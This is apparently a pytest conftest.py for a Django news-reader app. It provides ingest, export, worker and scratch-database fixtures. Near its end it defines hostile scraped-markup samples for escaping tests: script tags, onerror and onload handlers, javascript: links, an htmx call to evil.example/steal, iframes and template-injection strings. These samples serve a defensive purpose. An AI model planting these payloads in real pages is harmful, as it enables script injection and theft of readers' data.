import json
import os
import time
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command

ROOT = Path(__file__).resolve().parent.parent
SEEDS = ROOT / "fixtures" / "seeds"
# The browser tests' fixtures (browser, page, site), for every test module.
pytest_plugins = ["tests.browsing"]

# The thorough tier (make test-all, and CI): load drills, fault injection, fuzzers,
# schemathesis, pip-audit, Varnish, and the ingests run as commands on scratch databases
# (concurrent, killed, on a terminal). make test leaves them out.
THOROUGH_MODULES = {
    "test_api_schema",
    "test_concurrency",
    "test_dependencies",
    "test_drills",
    "test_editors_during_ingest",
    "test_fuzz_parse",
    "test_fuzz_urls",
    "test_hostile_input",
    "test_ingest_faults",
    "test_ingest_progress",
    "test_purge_drill",
    "test_scaleout",
    "test_serving_fuzz",
    "test_varnish",
    "test_varnish_purge",
}


def pytest_collection_modifyitems(items: list) -> None:
    for item in items:
        if item.module.__name__.rsplit(".", 1)[-1] in THOROUGH_MODULES:
            item.add_marker(pytest.mark.thorough)


MULTI_STORY = SEEDS / "002_801232c05f2a40c6.txt"
BODY_ONLY = SEEDS / "000_d68af86ea4c77a71.txt"


def _require_service(name: str) -> None:
    """Outside CI a missing service skips the test; under CI=true it fails it."""
    if os.environ.get("CI", "").lower() == "true":
        pytest.fail(f"{name} is required under CI=true but is not available.")
    pytest.skip(f"{name} is not available.")


@pytest.fixture
def require_service():
    return _require_service


@pytest.fixture(scope="session")
def require_service_session():
    return _require_service


def run_worker() -> None:
    """What ``manage.py db_worker`` does, for every task waiting. It opens and closes
    connections as it goes: only in a test that commits (``transaction=True``)."""
    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", verbosity=0)


def eventually(condition, seconds: float = 3.0) -> bool:
    """Whether ``condition()`` comes true within ``seconds`` (for what another thread does)."""
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.01)
    return True


def export(**kwargs) -> list[dict]:
    out = StringIO()
    call_command("export_articles", stdout=out, **kwargs)
    return [json.loads(line) for line in out.getvalue().splitlines()]


def html(response) -> str:
    """A page's text, once it is sure to be a page (200)."""
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def ingest(*paths, **options) -> tuple[str, str]:
    out, err = StringIO(), StringIO()
    call_command("ingest", *map(str, paths), stdout=out, stderr=err, **options)
    return out.getvalue(), err.getvalue()


@pytest.fixture(scope="session")
def reference_rows() -> list:
    """The regions and sources fixtures, read once a run (reading them is most of what
    loaddata takes, and transactional tests need them again after every flush)."""
    from django.core import serializers

    rows = []
    for name in ("regions", "sources"):
        text = (ROOT / "fixtures" / f"{name}.json").read_text(encoding="utf-8")
        rows += [found.object for found in serializers.deserialize("json", text)]
    return rows


@pytest.fixture
def reference_data(transactional_db, reference_rows):
    """Transactional tests start from a flushed database: put the reference data back, as
    loaddata would (the same rows, ids and sequences), in one insert a table."""
    from django.core.management.color import no_style
    from django.db import connection

    from newsreader.editors import ensure_editors_group

    by_model: dict = {}
    for row in reference_rows:
        by_model.setdefault(type(row), []).append(row)
    for model, rows in by_model.items():
        model.objects.bulk_create(rows, ignore_conflicts=True)  # the first test: none gone
    with connection.cursor() as cursor:
        for sql in connection.ops.sequence_reset_sql(no_style(), list(by_model)):
            cursor.execute(sql)
    ensure_editors_group()


@pytest.fixture(scope="session")
def gazetteer():
    """The gazetteer as ingest builds it, but from the region fixture: no database."""
    from bench.parsing import reference_gazetteer

    return reference_gazetteer()


@pytest.fixture(scope="session")
def outlets():
    from bench.parsing import reference_outlets

    return reference_outlets()


@pytest.fixture
def scratch_databases(tmp_path):
    """Make environments for subprocesses that share a real, committed database of their own.

    Each call gives a migrated SQLite file by default, or a new PostgreSQL database when the
    suite runs on PostgreSQL. All are dropped afterwards.
    """
    import uuid

    from django.conf import settings

    drops = []

    def make() -> dict[str, str]:
        env = {**os.environ, "NEWSREADER_TESTING": "1"}
        db = settings.DATABASES["default"]
        name = f"newsreader_scratch_{uuid.uuid4().hex[:12]}"
        if db["ENGINE"] == "django.db.backends.postgresql":
            import psycopg

            params = {
                "host": db["HOST"] or "127.0.0.1",
                "port": db["PORT"] or 5432,
                "user": db["USER"],
                "password": db["PASSWORD"] or None,
                "dbname": "postgres",
                "autocommit": True,
            }
            try:
                with psycopg.connect(**params) as conn:
                    conn.execute(f'CREATE DATABASE "{name}"')
            except psycopg.OperationalError:
                _require_service("PostgreSQL")

            def drop():
                with psycopg.connect(**params) as conn:
                    conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')

            drops.append(drop)
            auth = db["USER"] + (f":{db['PASSWORD']}" if db["PASSWORD"] else "")
            env["DATABASE_URL"] = f"postgres://{auth}@{params['host']}:{params['port']}/{name}"
            if "DATABASE_REPLICA_URL" in env:
                env["DATABASE_REPLICA_URL"] = env["DATABASE_URL"]  # no replication: the same
        else:
            env["DATABASE_URL"] = f"sqlite:///{tmp_path / name}.sqlite3"
        manage_py(env, "migrate", "--noinput", "-v0")
        return env

    yield make
    for drop in drops:
        drop()


@pytest.fixture
def scratch_database(scratch_databases):
    """One environment from ``scratch_databases``."""
    return scratch_databases()


def manage_py(env: dict, *args: str) -> str:
    """``manage.py ARGS`` in a subprocess with ``env``; its standard output."""
    import subprocess
    import sys

    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        check=True,
    ).stdout


def articles_in(env: dict) -> list[dict]:
    """A scratch database's canonical export, without ids and the times stories were first
    seen (the ingest's clock), in an order that does not depend on them: two databases
    that hold the same articles give equal lists."""
    out = manage_py(env, "export_articles")
    records = [json.loads(line) for line in out.splitlines()]
    for record in records:
        del record["id"], record["url"], record["first_seen"]
        record["thread"] = thread_without_id(record["thread"])
    return sorted(records, key=lambda r: (r["title"], r["body"]))


def thread_without_id(thread: dict | None) -> str | None:
    """A thread as two databases that hold the same stories agree on it: its title (the
    newest headline), not its id or address, which depend on the order of arrival."""
    return thread["title"] if thread else None


@pytest.fixture
def corpus(tmp_path) -> Path:
    """The seeds and 12 generated pages of 50 stories each (bench/corpus.py)."""
    import shutil

    from bench.corpus import write_corpus

    folder = tmp_path / "corpus"
    write_corpus(folder, 600, seed=7)
    for seed in SEEDS.glob("*.txt"):
        shutil.copy(seed, folder / seed.name)
    return folder


@pytest.fixture(scope="session", autouse=True)
def close_connection_pools(django_db_setup):
    """Pooled connections would keep the test database busy when it is dropped."""
    yield
    from django.db import connections

    for connection in connections.all(initialized_only=True):
        if getattr(connection, "pool", None) is not None:
            connection.close_pool()


# Markup a scraped page may carry; it must be stored as text and shown escaped everywhere.
HOSTILE_TITLE = "Beirut <script>alert(1)</script> talks stall {{ settings.SECRET_KEY }}"
HOSTILE_CAPTION = (
    'Protesters in Beirut <img src=x onerror="alert(2)"> '
    '<img src="https://evil.example/pixel.png"> (AFP)'
)
HOSTILE_PARAGRAPHS = [
    'Beirut, 3 February 2026 - Talks stalled. Read <a href="javascript:alert(3)">more</a> '
    'and <div hx-get="https://evil.example/steal" hx-trigger="load">this</div>.',
    "Officials said {% debug %} and {{ request.META }} <svg onload=alert(4)> "
    '<iframe src="https://evil.example/"></iframe> <style>body{display:none}</style>.',
]
# What must never reach a reader unescaped.
HOSTILE_MARKUP = [
    "<script>alert(1)",
    "<img src=x",
    '<img src="https://evil.example',
    '<a href="javascript:',
    '<div hx-get="https://evil.example',
    "<svg onload",
    '<iframe src="https://evil.example',
    "<style>body",
]


def write_hostile_file(folder: Path) -> Path:
    path = folder / "hostile.txt"
    caption = HOSTILE_CAPTION
    header = f"{HOSTILE_TITLE}\n\n{caption}\n{caption}\n"
    path.write_text(f"{header}TT\n\n{header}\n" + "\n\n".join(HOSTILE_PARAGRAPHS) + "\n")
    return path


@pytest.fixture
def hostile_article(tmp_path):
    """A published article ingested from a scraped file full of markup."""
    from newsreader.models import Article

    ingest(write_hostile_file(tmp_path))
    return Article.objects.get(title__startswith="Beirut <script>")
